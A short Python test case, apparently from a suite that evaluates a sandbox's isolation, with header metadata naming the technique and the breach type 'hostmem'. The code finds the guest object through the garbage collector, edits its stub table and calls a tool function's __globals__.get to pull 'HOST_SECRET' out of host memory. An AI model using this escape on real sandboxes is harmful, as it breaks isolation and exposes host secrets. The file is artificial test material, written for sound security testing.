# id: 404
# name: call_by_a_dotted_name
# category: protocol
# technique: the kernel's own tables changed so that it asks for an attribute of a tool
# breach: hostmem
# looks_like: the tool's key comes back as an answer
# baseline: credulous
import gc

guest = next(one for one in gc.get_objects() if type(one).__name__.endswith('Guest'))
name = 'note_store.forward.__globals__.get'
guest._stubs[name] = None
print(guest.call(name, ('HOST_SECRET',), {}))
